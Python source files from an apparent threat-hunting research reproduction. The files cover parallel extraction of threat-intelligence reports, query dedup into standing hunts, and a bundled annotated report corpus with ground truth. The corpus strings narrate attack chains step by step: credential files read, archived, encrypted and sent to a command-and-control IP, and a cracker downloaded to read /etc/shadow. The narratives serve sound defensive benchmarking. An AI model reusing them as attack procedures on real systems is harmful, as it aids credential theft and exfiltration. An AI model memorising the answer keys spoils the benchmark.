DEFAULT_FLAGS: ExtractorFlags = (False, True, True, True)


@lru_cache(maxsize=None)
def shared_extractor(flags: ExtractorFlags = DEFAULT_FLAGS) -> ThreatBehaviorExtractor:
    """The memoized per-process extraction pipeline for one configuration."""
    resolve_nominal, protect, coref, simplify = flags
    return ThreatBehaviorExtractor(
        resolve_nominal_coreference=resolve_nominal,
        protect_iocs_enabled=protect,
        resolve_coreference=coref,
        simplify_trees=simplify,
    )


def _extract_text(
    flags: ExtractorFlags, text: str, keep_trees: bool
) -> tuple[float, ExtractionResult]:
    """Worker entry point: extract one report text, timing the run.

    Module-level (picklable) so process pools can dispatch it; the memoized
    :func:`shared_extractor` keeps per-process setup to one build.  Dropping
    the dependency trees (the default) keeps cross-process result transfer
    small — the corpus pipeline only consumes graphs, relations and IOCs.
    """
    started = time.perf_counter()
    result = shared_extractor(flags).extract(text)
    if not keep_trees:
        result.trees = []
    return (time.perf_counter() - started, result)


def _extract_chunk(
    flags: ExtractorFlags, texts: list[str], keep_trees: bool
) -> list[tuple[float, ExtractionResult | None, str | None]]:
    """Worker entry point for a whole chunk of report texts.

    One pool task per worker chunk (instead of one per report) amortizes the
    submit/pickle round trip over many reports; failures stay isolated per
    report inside the chunk.
    """
    outcomes: list[tuple[float, ExtractionResult | None, str | None]] = []
    for text in texts:
        try:
            seconds, result = _extract_text(flags, text, keep_trees)
            outcomes.append((seconds, result, None))
        except Exception as exc:  # noqa: BLE001 - isolate per report
            outcomes.append((0.0, None, f"{type(exc).__name__}: {exc}"))
    return outcomes


@dataclass
class ReportExtraction:
    """Extraction outcome for one corpus report."""

    report_id: str
    result: ExtractionResult | None = None
    error: str | None = None
    seconds: float = 0.0
    #: True when the result was shared from an identical-text report instead
    #: of being extracted again.
    from_cache: bool = False

    @property
    def ok(self) -> bool:
        return self.result is not None


@dataclass
class CorpusExtraction:
    """Everything produced by one corpus extraction pass."""

    extractions: list[ReportExtraction] = field(default_factory=list)
    seconds: float = 0.0
    workers: int = 1
    cache_hits: int = 0

    def by_id(self) -> dict[str, ReportExtraction]:
        return {extraction.report_id: extraction for extraction in self.extractions}

    def results(self) -> list[tuple[str, ExtractionResult]]:
        """(report id, extraction result) for every successful report."""
        return [
            (extraction.report_id, extraction.result)
            for extraction in self.extractions
            if extraction.result is not None
        ]

    def failures(self) -> dict[str, str]:
        """report id -> error message for every failed report."""
        return {
            extraction.report_id: extraction.error
            for extraction in self.extractions
            if extraction.error is not None
        }

    @property
    def reports_per_second(self) -> float:
        return len(self.extractions) / self.seconds if self.seconds > 0 else 0.0


class CorpusExtractor:
    """Runs the extraction pipeline over a corpus of OSCTI reports.

    Args:
        workers: Pool size; ``1`` extracts serially in-process.
        executor: ``"process"``, ``"thread"``, or ``"auto"`` (process when a
            fork start method is available, thread otherwise).  Ignored for
            ``workers=1``.
        dedup_texts: Extract byte-identical report texts once and share the
            result (hits are counted in :attr:`CorpusExtraction.cache_hits`).
        keep_trees: Keep per-sentence dependency trees on the results
            (disabled by default; they are large and unused downstream).
        resolve_nominal_coreference: Forwarded to the extraction pipeline.
    """

    def __init__(
        self,
        workers: int = 1,
        executor: str = "auto",
        dedup_texts: bool = True,
        keep_trees: bool = False,
        resolve_nominal_coreference: bool = False,
    ) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if executor not in ("auto", "process", "thread"):
            raise ValueError(f"unknown executor {executor!r}")
        self.workers = workers
        self.executor = executor
        self.dedup_texts = dedup_texts
        self.keep_trees = keep_trees
        self._flags: ExtractorFlags = (resolve_nominal_coreference, True, True, True)

    # -- public API ----------------------------------------------------------

    def extract_corpus(
        self,
        corpus: "ReportCorpus | Iterable[CorpusReport]",
    ) -> CorpusExtraction:
        """Extract every report of ``corpus`` and return per-report outcomes."""
        reports = list(ReportCorpus.coerce(corpus))
        started = time.perf_counter()

        # Group identical texts so each distinct text is extracted exactly once.
        order: list[str] = []
        text_of: dict[str, str] = {}
        members: dict[str, list[CorpusReport]] = {}
        for report in reports:
            key = (
                hashlib.sha256(report.text.encode("utf-8")).hexdigest()
                if self.dedup_texts
                else report.report_id
            )
            if key not in members:
                order.append(key)
                text_of[key] = report.text
                members[key] = []
            members[key].append(report)

        outcomes = self._extract_unique(order, text_of)

        cache_hits = 0
        outcome_by_id: dict[str, ReportExtraction] = {}
        for key in order:
            seconds, result, error = outcomes[key]
            for position, report in enumerate(members[key]):
                shared = position > 0
                if shared:
                    cache_hits += 1
                outcome_by_id[report.report_id] = ReportExtraction(
                    report_id=report.report_id,
                    result=result,
                    error=error,
                    seconds=0.0 if shared else seconds,
                    from_cache=shared,
                )
        # Preserve the corpus order on the way out.
        extractions = [outcome_by_id[report.report_id] for report in reports]

        return CorpusExtraction(
            extractions=extractions,
            seconds=time.perf_counter() - started,
            workers=self.workers,
            cache_hits=cache_hits,
        )

    # -- internals -----------------------------------------------------------

    def _extract_unique(
        self, order: list[str], text_of: dict[str, str]
    ) -> dict[str, tuple[float, ExtractionResult | None, str | None]]:
        if self.workers == 1 or len(order) <= 1:
            return {key: self._extract_one(text_of[key]) for key in order}

        # Round-robin the unique texts into one chunk per worker so chunk
        # workloads stay balanced even when report sizes trend over the corpus.
        chunk_count = min(self.workers, len(order))
        chunks: list[list[str]] = [[] for _ in range(chunk_count)]
        for position, key in enumerate(order):
            chunks[position % chunk_count].append(key)

        outcomes: dict[str, tuple[float, ExtractionResult | None, str | None]] = {}
        with self._pool() as pool:
            futures = {
                pool.submit(
                    _extract_chunk,
                    self._flags,
                    [text_of[key] for key in chunk],
                    self.keep_trees,
                ): chunk
                for chunk in chunks
            }
            for future in concurrent.futures.as_completed(futures):
                chunk = futures[future]
                try:
                    for key, outcome in zip(chunk, future.result()):
                        outcomes[key] = outcome
                except Exception as exc:  # noqa: BLE001 - a dead worker fails its chunk
                    for key in chunk:
                        outcomes[key] = (0.0, None, f"{type(exc).__name__}: {exc}")
        return outcomes

    def _extract_one(
        self, text: str
    ) -> tuple[float, ExtractionResult | None, str | None]:
        try:
            seconds, result = _extract_text(self._flags, text, self.keep_trees)
            return (seconds, result, None)
        except Exception as exc:  # noqa: BLE001 - isolate per report
            return (0.0, None, f"{type(exc).__name__}: {exc}")

    def _pool(self) -> concurrent.futures.Executor:
        use_processes = self.executor == "process" or (
            self.executor == "auto"
            and "fork" in multiprocessing.get_all_start_methods()
        )
        if use_processes:
            try:
                context = multiprocessing.get_context("fork")
            except ValueError:  # pragma: no cover - non-POSIX platforms
                context = multiprocessing.get_context()
            return concurrent.futures.ProcessPoolExecutor(
                max_workers=self.workers, mp_context=context
            )
        return concurrent.futures.ThreadPoolExecutor(max_workers=self.workers)


__all__ = [
    "CorpusExtraction",
    "CorpusExtractor",
    "DEFAULT_FLAGS",
    "ExtractorFlags",
    "ReportExtraction",
    "shared_extractor",
]
