"""OSCTI report corpus loading.

A :class:`ReportCorpus` is an ordered, id-keyed collection of OSCTI reports
destined for corpus-scale extraction and hunting.  It loads from the bundled
annotated corpus (:mod:`repro.data.osctireports`), from a directory of plain
text report files, or from a JSONL feed dump, and normalizes everything into
:class:`CorpusReport` records.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Iterator

from repro.data.osctireports import ALL_REPORTS, AnnotatedReport, corpus_variants


@dataclass(frozen=True)
class CorpusReport:
    """One OSCTI report in a corpus.

    Attributes:
        report_id: Unique id within the corpus; becomes alert provenance.
        text: The report body handed to the extraction pipeline.
        title: Optional human-readable title.
        source: Where the report came from (``bundled``, a file path, a feed).
    """

    report_id: str
    text: str
    title: str = ""
    source: str = ""


def _coerce_report(item: "CorpusReport | AnnotatedReport | tuple[str, str]") -> CorpusReport:
    if isinstance(item, CorpusReport):
        return item
    if isinstance(item, AnnotatedReport):
        return CorpusReport(
            report_id=item.name, text=item.text, title=item.title, source="bundled"
        )
    if isinstance(item, tuple) and len(item) == 2:
        report_id, text = item
        return CorpusReport(report_id=str(report_id), text=str(text))
    raise TypeError(f"cannot build a CorpusReport from {type(item).__name__}")


class ReportCorpus:
    """An ordered collection of OSCTI reports with unique ids."""

    def __init__(
        self,
        reports: Iterable["CorpusReport | AnnotatedReport | tuple[str, str]"] = (),
    ) -> None:
        self._reports: dict[str, CorpusReport] = {}
        for item in reports:
            self.add(item)

    # -- construction --------------------------------------------------------

    def add(self, item: "CorpusReport | AnnotatedReport | tuple[str, str]") -> CorpusReport:
        """Add one report; raises ``ValueError`` on a duplicate id."""
        report = _coerce_report(item)
        if report.report_id in self._reports:
            raise ValueError(f"duplicate report id {report.report_id!r}")
        self._reports[report.report_id] = report
        return report

    def add_text(
        self, report_id: str, text: str, title: str = "", source: str = ""
    ) -> CorpusReport:
        """Add one report from raw text."""
        return self.add(CorpusReport(report_id=report_id, text=text, title=title, source=source))

    @classmethod
    def coerce(
        cls, reports: "ReportCorpus | Iterable[CorpusReport | AnnotatedReport | tuple[str, str]]"
    ) -> "ReportCorpus":
        """Return ``reports`` as a :class:`ReportCorpus` (pass-through if it is one)."""
        if isinstance(reports, ReportCorpus):
            return reports
        return cls(reports)

    @classmethod
    def bundled(cls, auditable_only: bool = False) -> "ReportCorpus":
        """The annotated corpus bundled with the reproduction."""
        reports = [r for r in ALL_REPORTS if r.auditable or not auditable_only]
        return cls(reports)

    @classmethod
    def variants(cls, count: int, seed: int = 7) -> "ReportCorpus":
        """A deterministically expanded corpus of overlapping feed variants."""
        return cls(corpus_variants(count, seed=seed))

    @classmethod
    def from_directory(cls, path: str | Path, pattern: str = "*.txt") -> "ReportCorpus":
        """Load every matching text file of a directory as one report each.

        The file stem becomes the report id.
        """
        directory = Path(path)
        if not directory.is_dir():
            raise FileNotFoundError(f"report directory not found: {directory}")
        corpus = cls()
        for file in sorted(directory.glob(pattern)):
            corpus.add_text(
                report_id=file.stem,
                text=file.read_text(encoding="utf-8"),
                title=file.stem,
                source=str(file),
            )
        return corpus

    @classmethod
    def from_jsonl(cls, path: str | Path) -> "ReportCorpus":
        """Load a JSONL feed dump: one object per line with ``id`` and ``text``.

        Optional ``title`` and ``source`` fields are carried through.
        """
        corpus = cls()
        file = Path(path)
        with file.open("r", encoding="utf-8") as handle:
            for line_number, line in enumerate(handle, start=1):
                line = line.strip()
                if not line:
                    continue
                try:
                    record = json.loads(line)
                except json.JSONDecodeError as exc:
                    raise ValueError(f"{file}:{line_number}: invalid JSON: {exc}") from exc
                try:
                    report_id = str(record["id"])
                    text = str(record["text"])
                except KeyError as exc:
                    raise ValueError(
                        f"{file}:{line_number}: JSONL report needs 'id' and 'text'"
                    ) from exc
                corpus.add_text(
                    report_id=report_id,
                    text=text,
                    title=str(record.get("title", "")),
                    source=str(record.get("source", str(file))),
                )
        return corpus

    # -- access --------------------------------------------------------------

    def __len__(self) -> int:
        return len(self._reports)

    def __iter__(self) -> Iterator[CorpusReport]:
        return iter(self._reports.values())

    def __contains__(self, report_id: str) -> bool:
        return report_id in self._reports

    def get(self, report_id: str) -> CorpusReport:
        """Look up a report by id (raises ``KeyError`` when absent)."""
        return self._reports[report_id]

    def report_ids(self) -> list[str]:
        """All report ids, in insertion order."""
        return list(self._reports)


__all__ = ["CorpusReport", "ReportCorpus"]
