"""Corpus-scale OSCTI intelligence: many reports in, few standing hunts out.

The paper's front half (OSCTI report text → IOC-protected NLP extraction →
threat behavior graph → synthesized TBQL query) runs one report at a time; a
production deployment ingests a continuous *corpus* of reports from
overlapping feeds.  This package scales that front half to match the
streaming/standing-hunt back half:

* :class:`~repro.intel.corpus.ReportCorpus` loads report corpora — the
  bundled annotated set, deterministic feed-variant expansions, directories
  of text files, JSONL feed dumps;
* :class:`~repro.intel.extractor.CorpusExtractor` fans extraction out over a
  ``concurrent.futures`` worker pool with a shared memoized pipeline setup
  per process and byte-identical-text dedup;
* :class:`~repro.intel.hunt.CorpusHuntPlanner` canonicalizes every
  synthesized query (:mod:`repro.tbql.canonical`) so semantically equivalent
  queries from overlapping reports register as **one** standing hunt in the
  :class:`~repro.streaming.service.HuntingService`, with per-report
  provenance carried onto every raised alert.

The :meth:`repro.core.pipeline.ThreatRaptor.hunt_corpus` facade and the CLI
``corpus`` subcommand wire these together.
"""

from repro.intel.corpus import CorpusReport, ReportCorpus
from repro.intel.extractor import (
    CorpusExtraction,
    CorpusExtractor,
    ReportExtraction,
    shared_extractor,
)
from repro.intel.hunt import CorpusHunt, CorpusHuntPlanner, CorpusHuntResult

__all__ = [
    "CorpusExtraction",
    "CorpusExtractor",
    "CorpusHunt",
    "CorpusHuntPlanner",
    "CorpusHuntResult",
    "CorpusReport",
    "ReportCorpus",
    "ReportExtraction",
    "shared_extractor",
]
