"""Corpus hunting: synthesized-query dedup and standing-hunt registration.

:class:`CorpusHuntPlanner` closes the loop from a corpus of OSCTI reports to
the continuous hunting service:

1. every report is extracted (:class:`~repro.intel.extractor.CorpusExtractor`,
   optionally in parallel);
2. each behavior graph is synthesized into a TBQL query and canonicalized
   (:mod:`repro.tbql.canonical`), so semantically equivalent queries from
   overlapping reports collide on one canonical key;
3. one standing hunt is registered per *distinct* canonical query — not per
   report — each carrying the full list of originating report ids as
   provenance, which every raised alert then reports;
4. reports whose extraction fails or whose behavior graph screens down to
   nothing auditable (URL/hash-only reports) are recorded as skipped instead
   of aborting the corpus;
5. under the enforcing static-analysis gate
   (:attr:`~repro.core.config.ThreatRaptorConfig.analysis_mode` ``"enforce"``),
   a synthesized query with error-severity lint diagnostics is **rejected
   with provenance**: no hunt is registered, and the result records which
   reports produced it and exactly which diagnostics fired.

Repeated passes over the same service are incremental: a report equivalent to
an already-registered hunt extends that hunt's provenance instead of
registering a duplicate, so a continuously fed corpus keeps the standing-query
set minimal.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Iterable

from repro.errors import SynthesisError
from repro.intel.corpus import CorpusReport, ReportCorpus
from repro.intel.extractor import CorpusExtraction, CorpusExtractor
from repro.tbql.ast import Query
from repro.tbql.canonical import canonicalize_query, render_canonical_key
from repro.tbql.formatter import format_query

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids import cycles
    from repro.core.pipeline import ThreatRaptor
    from repro.streaming.service import HuntingService
    from repro.tbql.analysis.diagnostics import Diagnostic


@dataclass(frozen=True)
class CorpusHunt:
    """One standing hunt that a corpus pass mapped reports onto."""

    name: str
    canonical_key: str
    query_text: str
    report_ids: tuple[str, ...]
    #: False when the hunt already existed (an earlier pass registered it) and
    #: this pass only extended its provenance.
    newly_registered: bool = True


@dataclass(frozen=True)
class RejectedHunt:
    """A would-be hunt the static-analysis gate rejected, with provenance.

    The query never registers on the service; the corpus result keeps the
    canonical key, the query text, every originating report id and the
    error diagnostics, so the rejection is auditable end to end.
    """

    canonical_key: str
    query_text: str
    report_ids: tuple[str, ...]
    diagnostics: "tuple[Diagnostic, ...]"


@dataclass
class CorpusHuntResult:
    """Everything produced by one :meth:`ThreatRaptor.hunt_corpus` pass."""

    service: "HuntingService"
    extraction: CorpusExtraction
    hunts: list[CorpusHunt] = field(default_factory=list)
    #: report id -> reason, for reports that produced no hunt.
    skipped: dict[str, str] = field(default_factory=dict)
    #: Canonical queries the static-analysis gate refused to register.
    rejected: list[RejectedHunt] = field(default_factory=list)

    @property
    def hunted_report_ids(self) -> list[str]:
        """Report ids that mapped onto a standing hunt."""
        ids: list[str] = []
        for hunt in self.hunts:
            ids.extend(hunt.report_ids)
        return ids

    def summary(self) -> dict[str, Any]:
        """Compact corpus-pass statistics for the CLI and benchmarks."""
        hunted = len(self.hunted_report_ids)
        registered = sum(1 for hunt in self.hunts if hunt.newly_registered)
        return {
            "reports": len(self.extraction.extractions),
            "hunted_reports": hunted,
            "skipped_reports": len(self.skipped),
            "hunts": len(self.hunts),
            "hunts_registered": registered,
            "hunts_reused": len(self.hunts) - registered,
            "hunts_rejected": len(self.rejected),
            "rejected_reports": sum(
                len(rejection.report_ids) for rejection in self.rejected
            ),
            "dedup_ratio": round(1.0 - len(self.hunts) / hunted, 4) if hunted else 0.0,
            "extraction_seconds": round(self.extraction.seconds, 6),
            "extraction_workers": self.extraction.workers,
            "extraction_cache_hits": self.extraction.cache_hits,
        }


class CorpusHuntPlanner:
    """Plans and registers the deduped standing hunts for a report corpus."""

    def __init__(
        self,
        raptor: "ThreatRaptor",
        workers: int = 1,
        executor: str = "auto",
        name_prefix: str = "corpus",
    ) -> None:
        self._raptor = raptor
        self._name_prefix = name_prefix
        self._extractor = CorpusExtractor(
            workers=workers,
            executor=executor,
            resolve_nominal_coreference=raptor.config.resolve_nominal_coreference,
        )

    def register(
        self,
        corpus: "ReportCorpus | Iterable[CorpusReport]",
        service: "HuntingService",
    ) -> CorpusHuntResult:
        """Extract, synthesize, dedup and register ``corpus`` on ``service``."""
        extraction = self._extractor.extract_corpus(corpus)
        result = CorpusHuntResult(service=service, extraction=extraction)

        # Group reports by the canonical key of their synthesized query.
        # Duplicate-text reports share one ExtractionResult object (the
        # extractor dedups them), so synthesis + canonicalization runs once
        # per distinct result, not once per report.
        groups: dict[str, tuple[Query, list[str]]] = {}
        synthesized: dict[int, tuple[Query, str] | SynthesisError] = {}
        for report_extraction in extraction.extractions:
            report_id = report_extraction.report_id
            if report_extraction.result is None:
                result.skipped[report_id] = (
                    f"extraction failed: {report_extraction.error}"
                )
                continue
            result_key = id(report_extraction.result)
            outcome = synthesized.get(result_key)
            if outcome is None:
                try:
                    query = self._raptor.synthesize_query(report_extraction.result.graph)
                    canonical = canonicalize_query(query)
                    outcome = (canonical, render_canonical_key(canonical))
                except SynthesisError as exc:
                    outcome = exc
                synthesized[result_key] = outcome
            if isinstance(outcome, SynthesisError):
                result.skipped[report_id] = f"synthesis failed: {outcome}"
                continue
            canonical, key = outcome
            if key not in groups:
                groups[key] = (canonical, [])
            groups[key][1].append(report_id)

        taken_names = {standing.name for standing in service.hunts}
        counter = 0
        for key, (canonical, report_ids) in groups.items():
            existing = service.hunt_by_canonical_key(key)
            if existing is not None:
                standing = service.extend_hunt_provenance(existing.name, report_ids)
                result.hunts.append(
                    CorpusHunt(
                        name=standing.name,
                        canonical_key=key,
                        query_text=standing.query_text,
                        report_ids=tuple(report_ids),
                        newly_registered=False,
                    )
                )
                continue
            if self._raptor.config.analysis_mode == "enforce":
                analysis = self._raptor.analyze_query(canonical)
                if analysis.has_errors():
                    result.rejected.append(
                        RejectedHunt(
                            canonical_key=key,
                            query_text=format_query(canonical),
                            report_ids=tuple(report_ids),
                            diagnostics=tuple(analysis.errors),
                        )
                    )
                    continue
            counter += 1
            name = f"{self._name_prefix}-{counter}"
            while name in taken_names:
                counter += 1
                name = f"{self._name_prefix}-{counter}"
            taken_names.add(name)
            service.register_hunt(
                name, query=canonical, provenance=report_ids, canonical_key=key
            )
            result.hunts.append(
                CorpusHunt(
                    name=name,
                    canonical_key=key,
                    query_text=format_query(canonical),
                    report_ids=tuple(report_ids),
                    newly_registered=True,
                )
            )
        return result


__all__ = ["CorpusHunt", "CorpusHuntPlanner", "CorpusHuntResult", "RejectedHunt"]
