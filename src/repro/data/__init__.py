"""Bundled OSCTI report corpus with ground-truth annotations."""

from repro.data.osctireports import (
    ALL_REPORTS,
    FIGURE2_REPORT,
    AnnotatedReport,
    report_by_name,
)

__all__ = ["ALL_REPORTS", "FIGURE2_REPORT", "AnnotatedReport", "report_by_name"]
