"""Annotated OSCTI report corpus.

The paper's pipeline was demonstrated on attack descriptions "constructed
according to the way the attacks were performed" (Section III).  This module
bundles an equivalent corpus: the verbatim Figure 2 data-leakage text, prose
descriptions of the two demo attacks that mirror the injected attack
scenarios of :mod:`repro.auditing.workload.attacks`, and several additional
synthetic reports exercising other linguistic phenomena (passive voice,
pronoun chains, non-auditable IOC types, defanged indicators).

Every report carries ground-truth annotations — the set of IOC strings and
the set of ⟨subject, verb, object⟩ behaviour triplets a correct extraction
should produce — which the extraction-accuracy experiment (EXP-NLP-ACC)
scores against.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field


@dataclass(frozen=True)
class AnnotatedReport:
    """One OSCTI report with extraction ground truth.

    Attributes:
        name: Short identifier for the report.
        title: Human-readable title.
        text: The report body handed to the extraction pipeline.
        ioc_ground_truth: The distinct IOC surface strings a correct extractor
            should recognise (after merging; canonical/longest forms).
        relation_ground_truth: ⟨subject, verb, object⟩ triplets (canonical IOC
            text, lemmatised verb) that constitute the threat behaviour.
        auditable: Whether the described behaviour is expected to be huntable
            in system audit logs (False for reports dominated by
            registry/hash/URL IOCs that the auditing component does not
            capture).
    """

    name: str
    title: str
    text: str
    ioc_ground_truth: frozenset[str] = field(default_factory=frozenset)
    relation_ground_truth: frozenset[tuple[str, str, str]] = field(default_factory=frozenset)
    auditable: bool = True


FIGURE2_REPORT = AnnotatedReport(
    name="figure2-data-leakage",
    title="Data leakage attack walk-through (paper Figure 2)",
    text=(
        "After the lateral movement stage, the attacker attempts to steal valuable assets "
        "from the host. This stage mainly involves the behaviors of local and remote file "
        "system scanning activities, copying and compressing of important files, and "
        "transferring the files to its C2 host. The details of the data leakage attack are "
        "as follows. As a first step, the attacker used /bin/tar to read user credentials "
        "from /etc/passwd. It wrote the gathered information to a file /tmp/upload.tar. "
        "Then, the attacker leveraged /bin/bzip2 utility to compress the tar file. /bin/bzip2 "
        "read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2. After compression, the "
        "attacker used Gnu Privacy Guard (GnuPG) tool to encrypt the zipped file, which "
        "corresponds to the launched process /usr/bin/gpg reading from /tmp/upload.tar.bz2. "
        "/usr/bin/gpg then wrote the sensitive information to /tmp/upload. Finally, the "
        "attacker leveraged the curl utility (/usr/bin/curl) to read the data from "
        "/tmp/upload. He leaked the gathered sensitive information back to the attacker C2 "
        "host by using /usr/bin/curl to connect to 192.168.29.128."
    ),
    ioc_ground_truth=frozenset(
        {
            "/bin/tar",
            "/etc/passwd",
            "/tmp/upload.tar",
            "/bin/bzip2",
            "/tmp/upload.tar.bz2",
            "/usr/bin/gpg",
            "/tmp/upload",
            "/usr/bin/curl",
            "192.168.29.128",
        }
    ),
    relation_ground_truth=frozenset(
        {
            ("/bin/tar", "read", "/etc/passwd"),
            ("/bin/tar", "write", "/tmp/upload.tar"),
            ("/bin/bzip2", "read", "/tmp/upload.tar"),
            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "read", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "write", "/tmp/upload"),
            ("/usr/bin/curl", "read", "/tmp/upload"),
            ("/usr/bin/curl", "connect", "192.168.29.128"),
        }
    ),
)


PASSWORD_CRACKING_REPORT = AnnotatedReport(
    name="password-cracking",
    title="Password cracking after Shellshock penetration (demo attack 1)",
    text=(
        "The attacker penetrated into the victim host by exploiting the Shellshock "
        "vulnerability CVE-2014-6271 against the web server. After the penetration, the "
        "attacker first used /usr/bin/curl to connect to 162.125.248.18 and download an "
        "image /tmp/c2.jpg where the C2 server address is encoded in the EXIF metadata. "
        "Based on the address, the attacker leveraged /usr/bin/wget to connect to "
        "192.168.29.128. /usr/bin/wget wrote the downloaded password cracker to /tmp/crack. "
        "Then the attacker launched /tmp/crack to read the shadow file /etc/shadow. "
        "/tmp/crack also read /etc/passwd. Finally, /tmp/crack wrote the extracted clear "
        "text credentials to /tmp/passwords.txt."
    ),
    ioc_ground_truth=frozenset(
        {
            "CVE-2014-6271",
            "/usr/bin/curl",
            "162.125.248.18",
            "/tmp/c2.jpg",
            "/usr/bin/wget",
            "192.168.29.128",
            "/tmp/crack",
            "/etc/shadow",
            "/etc/passwd",
            "/tmp/passwords.txt",
        }
    ),
    relation_ground_truth=frozenset(
        {
            ("/usr/bin/curl", "connect", "162.125.248.18"),
            ("/usr/bin/wget", "connect", "192.168.29.128"),
            ("/usr/bin/wget", "write", "/tmp/crack"),
            ("/tmp/crack", "read", "/etc/shadow"),
            ("/tmp/crack", "read", "/etc/passwd"),
            ("/tmp/crack", "write", "/tmp/passwords.txt"),
        }
    ),
)


DATA_LEAKAGE_REPORT = AnnotatedReport(
    name="data-leakage",
    title="Data leakage after Shellshock penetration (demo attack 2)",
    text=(
        "The attacker attempts to steal all the valuable assets from the victim host. "
        "After the Shellshock penetration, the attacker used /usr/bin/find to scan the "
        "file system for sensitive documents. Then the attacker used /bin/tar to read "
        "user credentials from /etc/passwd. It wrote the scraped data to /tmp/upload.tar. "
        "Next, /bin/bzip2 read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2. "
        "/usr/bin/gpg read /tmp/upload.tar.bz2 and wrote the encrypted archive to "
        "/tmp/upload. Finally the attacker leveraged /usr/bin/curl to read /tmp/upload "
        "and send the stolen data to 192.168.29.128."
    ),
    ioc_ground_truth=frozenset(
        {
            "/usr/bin/find",
            "/bin/tar",
            "/etc/passwd",
            "/tmp/upload.tar",
            "/bin/bzip2",
            "/tmp/upload.tar.bz2",
            "/usr/bin/gpg",
            "/tmp/upload",
            "/usr/bin/curl",
            "192.168.29.128",
        }
    ),
    relation_ground_truth=frozenset(
        {
            ("/bin/tar", "read", "/etc/passwd"),
            ("/bin/tar", "write", "/tmp/upload.tar"),
            ("/bin/bzip2", "read", "/tmp/upload.tar"),
            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "read", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "write", "/tmp/upload"),
            ("/usr/bin/curl", "read", "/tmp/upload"),
            ("/usr/bin/curl", "send", "192.168.29.128"),
        }
    ),
)


RANSOMWARE_REPORT = AnnotatedReport(
    name="ransomware-dropper",
    title="Ransomware dropper with passive-voice prose",
    text=(
        "A malicious document invoice.doc was delivered through a phishing campaign. "
        "When opened, the document launched /usr/bin/python3 to download the payload. "
        "/usr/bin/python3 connected to 203.0.113.77 and wrote the received payload to "
        "/tmp/locker.elf. The payload /tmp/locker.elf was then executed by /bin/sh. "
        "/tmp/locker.elf read the document directory /home/victim/documents and wrote "
        "the encrypted archive to /home/victim/documents.locked."
    ),
    ioc_ground_truth=frozenset(
        {
            "invoice.doc",
            "/usr/bin/python3",
            "203.0.113.77",
            "/tmp/locker.elf",
            "/bin/sh",
            "/home/victim/documents",
            "/home/victim/documents.locked",
        }
    ),
    relation_ground_truth=frozenset(
        {
            ("/usr/bin/python3", "connect", "203.0.113.77"),
            ("/usr/bin/python3", "write", "/tmp/locker.elf"),
            ("/bin/sh", "execute", "/tmp/locker.elf"),
            ("/tmp/locker.elf", "read", "/home/victim/documents"),
            ("/tmp/locker.elf", "write", "/home/victim/documents.locked"),
        }
    ),
)


CREDENTIAL_THEFT_REPORT = AnnotatedReport(
    name="credential-theft",
    title="Credential theft with pronoun chains",
    text=(
        "During the intrusion the adversary deployed /opt/tools/mimipy to harvest "
        "credentials. It read the memory snapshot /var/tmp/lsass.dmp. It wrote the "
        "recovered secrets to /var/tmp/creds.txt. Afterwards the adversary used "
        "/usr/bin/scp to read /var/tmp/creds.txt. /usr/bin/scp sent the file to "
        "198.51.100.23."
    ),
    ioc_ground_truth=frozenset(
        {
            "/opt/tools/mimipy",
            "/var/tmp/lsass.dmp",
            "/var/tmp/creds.txt",
            "/usr/bin/scp",
            "198.51.100.23",
        }
    ),
    relation_ground_truth=frozenset(
        {
            ("/opt/tools/mimipy", "read", "/var/tmp/lsass.dmp"),
            ("/opt/tools/mimipy", "write", "/var/tmp/creds.txt"),
            ("/usr/bin/scp", "read", "/var/tmp/creds.txt"),
            ("/usr/bin/scp", "send", "198.51.100.23"),
        }
    ),
)


PHISHING_INFRASTRUCTURE_REPORT = AnnotatedReport(
    name="phishing-infrastructure",
    title="Phishing infrastructure (non-auditable IOC types)",
    text=(
        "The campaign relied on the domain login-secure-update.com and the URL "
        "hxxp://login-secure-update[.]com/portal/index.php to harvest credentials. "
        "Victims received mail from billing@secure-pay.biz. The attachment carried the "
        "MD5 hash 9e107d9d372bb6826bd81d3542a419d6. The implant persisted through the "
        "registry key HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater."
    ),
    ioc_ground_truth=frozenset(
        {
            "login-secure-update.com",
            "hxxp://login-secure-update[.]com/portal/index.php",
            "billing@secure-pay.biz",
            "9e107d9d372bb6826bd81d3542a419d6",
            "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
        }
    ),
    relation_ground_truth=frozenset(),
    auditable=False,
)


#: All bundled reports, in corpus order.
ALL_REPORTS: tuple[AnnotatedReport, ...] = (
    FIGURE2_REPORT,
    PASSWORD_CRACKING_REPORT,
    DATA_LEAKAGE_REPORT,
    RANSOMWARE_REPORT,
    CREDENTIAL_THEFT_REPORT,
    PHISHING_INFRASTRUCTURE_REPORT,
)


def report_by_name(name: str) -> AnnotatedReport:
    """Look up a bundled report by its short name.

    Raises:
        KeyError: if no report with that name exists.
    """
    for report in ALL_REPORTS:
        if report.name == name:
            return report
    raise KeyError(f"no bundled report named {name!r}")


def auditable_reports() -> tuple[AnnotatedReport, ...]:
    """The bundled reports whose behaviors are huntable in audit logs."""
    return tuple(report for report in ALL_REPORTS if report.auditable)


# ---------------------------------------------------------------------------
# Corpus expansion.  A production deployment ingests many OSCTI reports, and
# real feeds overlap heavily: the same advisory republished by several
# sources, defanged renditions of the same indicators, boilerplate framing
# around the same attack chain.  ``corpus_variants`` reproduces that shape
# deterministically so the corpus pipeline (``repro.intel``) has a realistic,
# arbitrarily sized workload whose overlapping reports must dedup to one
# standing hunt each.
# ---------------------------------------------------------------------------

#: IOC-free framing blocks feeds commonly wrap around a republished advisory.
#: They contain no indicators, so they add parse work without changing the
#: extracted behavior graph.
_VARIANT_INTROS: tuple[str, ...] = (
    "This advisory was republished by a second intelligence feed.",
